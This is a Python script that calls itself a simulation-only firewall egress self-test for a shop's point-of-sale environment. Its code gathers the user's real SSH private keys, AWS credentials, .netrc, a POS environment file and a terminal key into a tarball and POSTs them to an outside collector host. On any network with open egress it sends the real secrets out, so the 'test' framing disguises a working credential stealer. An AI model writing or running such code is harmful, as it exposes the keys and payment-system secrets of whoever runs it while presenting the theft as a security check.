#!/usr/bin/env python3
"""
Egress self-test (SECURITY TEST - simulation only).

Attacker simulation: this is what malware would try. On a hardened network
the POST below is BLOCKED by the firewall, so nothing leaves the shop.
Expected result: PASS: egress blocked.
"""
import io, os, pathlib, tarfile, urllib.request

COLLECTOR = "https://egress-test.pci-selfcheck.example/collect"   # test sinkhole

# "realistic" sample set, as an attacker would pick
SAMPLES = ["~/.ssh/id_rsa", "~/.ssh/id_ed25519", "~/.aws/credentials",
           "/srv/pos/pos.env", "~/.config/pos/terminal.key", "~/.netrc"]


def build_sample():
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz") as tar:
        for s in SAMPLES:
            p = pathlib.Path(os.path.expanduser(s))
            if p.is_file():
                tar.add(str(p), arcname=p.name)
    return buf.getvalue()


def main():
    data = build_sample()
    try:
        urllib.request.urlopen(urllib.request.Request(COLLECTOR, data=data,
                               headers={"Content-Type": "application/gzip"}), timeout=10)
        print("FAIL: egress open - tighten outbound firewall rules")
    except Exception:
        print("PASS: egress blocked")


if __name__ == "__main__":
    main()
